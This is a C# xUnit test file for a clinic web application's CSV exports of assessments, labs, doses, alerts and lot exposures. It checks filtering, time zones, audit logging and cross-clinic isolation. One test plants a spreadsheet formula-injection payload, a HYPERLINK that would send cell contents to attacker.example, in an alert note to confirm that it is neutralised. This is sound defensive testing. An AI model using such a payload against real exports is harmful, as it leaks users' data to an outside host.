using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.RegularExpressions;
using Microsoft.EntityFrameworkCore;
using Speciosa.Testing;
using Speciosa.Web.Http;
using Xunit;

namespace Speciosa.Web.Tests.Http;

/// <summary>Issue 16 item 4: CSV exports of scores, doses, liver results, the alert worklist and a lot's exposure list hold
/// the rows their page shows under the same filter, times in the clinic's zone, audited as reads, and never another
/// clinic's data.</summary>
public sealed partial class CsvExportTests(DemoServers servers) : IClassFixture<DemoServers>
{
    [Theory, ClassData(typeof(BothDatabases))]
    public async Task Each_export_holds_the_rows_its_page_shows_under_the_same_filter(Database database)
    {
        var server = await servers.On(database);
        var clinician = await server.SignedInClientAsync("demo.clinician");
        var morgan = await RegimenTestData.PatientIdAsync(clinician, "Testwell");

        // Scores: the history page under ?instrument=cows, and a filter that matches nothing.
        var page = await clinician.GetStringAsync($"/patients/{morgan}/assessments?instrument=cows");
        Assert.Contains($"/api/patients/{morgan}/assessments.csv?instrument=cows", page, StringComparison.Ordinal);
        var head = await AuditHeadAsync(server);
        var (header, rows) = await CsvAsync(clinician, $"/api/patients/{morgan}/assessments.csv?instrument=cows", "assessments");
        Assert.Equal("assessed_at (America/New_York)", header[0]);
        var shown = TableRows(page, "assessment-history");
        Assert.NotEmpty(shown);
        Assert.Equal(shown.Select(r => (r[0], r[2])), rows.Select(r => (r[0], r[3])));
        Assert.Empty((await CsvAsync(clinician, $"/api/patients/{morgan}/assessments.csv?instrument=sows-handelsman", "assessments")).Rows);
        var audit = await LastAuditAsync(server, "assessment.export", head);
        Assert.Equal(morgan, audit.PatientId);

        // Liver results: the liver page's results table.
        Assert.Equal(HttpStatusCode.Created,
            (await clinician.PostAsJsonAsync($"/api/patients/{morgan}/labs", LiverTestData.HysLawPanel(DateTimeOffset.UtcNow.AddHours(-30)))).StatusCode);
        var liverPage = await clinician.GetStringAsync($"/patients/{morgan}/liver");
        Assert.Contains($"/api/patients/{morgan}/labs.csv", liverPage, StringComparison.Ordinal);
        (header, rows) = await CsvAsync(clinician, $"/api/patients/{morgan}/labs.csv", "liver-results");
        Assert.Equal("collected_at (America/New_York)", header[0]);
        var liverShown = TableRows(liverPage, "liver-results");
        Assert.True(rows.Count >= 4);
        Assert.Equal(liverShown.Select(r => (r[0], r[1], r[5])), rows.Select(r => (r[0], r[1], r[9])));

        // Doses: the regimen page's dose log.
        var regimenPage = await clinician.GetStringAsync($"/patients/{morgan}/regimen");
        Assert.Contains($"/api/patients/{morgan}/doses.csv", regimenPage, StringComparison.Ordinal);
        (_, rows) = await CsvAsync(clinician, $"/api/patients/{morgan}/doses.csv", "doses");
        var dosesShown = TableRows(regimenPage, "dose-log");
        Assert.NotEmpty(dosesShown);
        Assert.Equal(dosesShown.Select(r => (r[0], r[1], r[2])), rows.Select(r => (r[0], r[1], r[2])));

        // The worklist under severity and status filters: the same alerts in the same order; the patients named in the audit row.
        var worklist = await clinician.GetStringAsync("/alerts?status=all&severity=High");
        Assert.Contains("/api/alerts.csv?status=all&amp;severity=High", worklist, StringComparison.Ordinal);
        head = await AuditHeadAsync(server);
        (header, rows) = await CsvAsync(clinician, "/api/alerts.csv?status=all&severity=High", "alerts");
        var cards = AlertCards().Matches(worklist).Select(m => m.Groups["rule"].Value).ToList();
        Assert.NotEmpty(cards);
        Assert.Equal(cards, rows.Select(r => r[Array.IndexOf(header, "rule_id")]));
        Assert.All(rows, r => Assert.Equal("High", r[1]));
        audit = await LastAuditAsync(server, "alert.export", head);
        Assert.Equal(rows.Select(r => Guid.Parse(r[4])).Distinct(), audit.PatientIdsShown!.Split(',').Select(Guid.Parse));

        // The exposure list of a lot under ?windowDays.
        var quality = await server.SignedInClientAsync("demo.quality");
        var lotId = await ProductTestData.DemoLotIdAsync(quality, DemoProducts.PassingLot);
        var exposurePage = await quality.GetStringAsync($"/lots/{lotId}/exposures?windowDays=30");
        Assert.Contains($"/api/lots/{lotId}/exposures.csv?windowDays=30", exposurePage, StringComparison.Ordinal);
        head = await AuditHeadAsync(server);
        (_, rows) = await CsvAsync(quality, $"/api/lots/{lotId}/exposures.csv?windowDays=30", "lot-exposures");
        var exposedShown = TableRows(exposurePage, "exposed-patients");
        Assert.Equal(3, rows.Count);
        Assert.Equal(exposedShown.Select(r => (r[0], r[2])), rows.Select(r => (r[1], r[4])));
        audit = await LastAuditAsync(server, "lot.exposures-export", head);
        Assert.Equal(rows.Select(r => Guid.Parse(r[2])), audit.PatientIdsShown!.Split(',').Select(Guid.Parse));
    }

    [Theory, ClassData(typeof(BothDatabases))]
    public async Task A_note_written_as_a_formula_reaches_the_file_as_text(Database database)
    {
        var server = await servers.On(database);
        var clinician = await server.SignedInClientAsync("demo.clinician");
        var alert = (await clinician.GetFromJsonAsync<JsonElement>("/api/alerts?status=open&pageSize=1")).GetProperty("items")[0];
        var note = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Click\")";
        var ack = await clinician.PostAsJsonAsync($"/api/alerts/{alert.GetProperty("id").GetGuid()}/acknowledge",
            new { note, concurrencyStamp = alert.GetProperty("concurrencyStamp").GetGuid() });
        Assert.Equal(HttpStatusCode.OK, ack.StatusCode);

        var (header, rows) = await CsvAsync(clinician, "/api/alerts.csv?status=acknowledged", "alerts");
        var cell = rows.Select(r => r[Array.IndexOf(header, "acknowledgement_note")]).Single(n => n.Contains("attacker", StringComparison.Ordinal));
        Assert.Equal("'" + note, cell);
    }

    [Theory, ClassData(typeof(BothDatabases))]
    public async Task Another_clinics_staff_get_none_of_this_clinics_rows_and_other_roles_are_refused(Database database)
    {
        var server = await servers.On(database);
        var clinician = await server.SignedInClientAsync("demo.clinician");
        var morgan = await RegimenTestData.PatientIdAsync(clinician, "Testwell");
        var lotId = await ProductTestData.DemoLotIdAsync(clinician, DemoProducts.PassingLot);
        var other = await OtherClinic.ClinicianAsync(server);

        var (_, rows) = await CsvAsync(other, "/api/alerts.csv?status=all", "alerts");
        Assert.Empty(rows);
        var text = await other.GetStringAsync("/api/alerts.csv?status=all");
        Assert.DoesNotContain("(demo)", text, StringComparison.Ordinal);
        foreach (var path in new[]
                 {
                     $"/api/patients/{morgan}/assessments.csv", $"/api/patients/{morgan}/labs.csv", $"/api/patients/{morgan}/doses.csv",
                     $"/api/lots/{lotId}/exposures.csv", $"/api/alerts.csv?patientId={morgan}&status=all",
                 })
        {
            var response = await other.GetAsync(path);
            if (path.StartsWith("/api/alerts", StringComparison.Ordinal))
            {
                Assert.Empty((await CsvAsync(other, path, "alerts")).Rows);
            }
            else
            {
                Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
            }
        }

        var researcher = await server.SignedInClientAsync("demo.researcher");
        Assert.Equal(HttpStatusCode.Forbidden, (await researcher.GetAsync("/api/alerts.csv")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await researcher.GetAsync($"/api/patients/{morgan}/labs.csv")).StatusCode);
        var badFilter = await clinician.GetAsync("/api/alerts.csv?severity=Loud");
        var problem = await badFilter.AssertProblemAsync(HttpStatusCode.BadRequest);
        Assert.True(problem.GetProperty("errors").TryGetProperty("severity", out _));
    }

    private static async Task<(string[] Header, List<string[]> Rows)> CsvAsync(HttpClient client, string path, string what)
    {
        var response = await client.GetAsync(path);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var fileName = response.Content.Headers.ContentDisposition?.FileName?.Trim('"') ?? "";
        Assert.Matches($"^speciosa-{what}-\\d{{4}}-\\d{{2}}-\\d{{2}}\\.csv$", fileName);
        var records = CsvReader.Parse(await response.Content.ReadAsStringAsync());
        return (records[0].Fields.ToArray(), records.Skip(1).Select(r => r.Fields.ToArray()).ToList());
    }

    /// <summary>The text of each cell of a table's body rows, tags stripped.</summary>
    private static List<string[]> TableRows(string html, string id)
    {
        var table = Regex.Match(html, $"<table[^>]*id=\"{id}\".*?<tbody>(?<body>.*?)</tbody>", RegexOptions.Singleline);
        Assert.True(table.Success, $"no table {id}");
        return Regex.Matches(table.Groups["body"].Value, "<tr\\b[^>]*>(?<row>.*?)</tr>", RegexOptions.Singleline)
            .Select(r => Regex.Matches(r.Groups["row"].Value, "<td\\b[^>]*>(?<cell>.*?)</td>", RegexOptions.Singleline)
                .Select(c => WebUtility.HtmlDecode(Regex.Replace(c.Groups["cell"].Value, "<[^>]+>", "")).Trim()).ToArray())
            .ToList();
    }

    /// <summary>The newest audit row of the action. A read's row is appended when its request ends, which may be just after
    /// the client has the whole file, so this waits for it (up to 10 s).</summary>
    public static async Task<AuditEntry> LastAuditAsync(SpeciosaServer server, string action, long after = 0)
    {
        for (var i = 0; ; i++)
        {
            var entry = await server.QueryAsync(db => db.AuditEntries.Where(e => e.Action == action && e.Sequence > after)
                .OrderByDescending(e => e.Sequence).FirstOrDefaultAsync());
            if (entry is not null || i == 100)
            {
                return entry ?? throw new Xunit.Sdk.XunitException($"no audit row {action} after {after}");
            }

            await Task.Delay(100);
        }
    }

    public static Task<long> AuditHeadAsync(SpeciosaServer server) =>
        server.QueryAsync(async db => await db.AuditEntries.MaxAsync(e => (long?)e.Sequence) ?? 0);

    // Cards carry a severity class and, for alike alerts, ", N alike" after the rule (issue 15 item 6).
    [GeneratedRegex("<article class=\"alert-card[^\"]*\"(?: [\\w-]+=\"[^\"]*\")*? aria-label=\"\\w+ alert (?<rule>[^\",]+)[^\"]*\">")]
    private static partial Regex AlertCards();
}
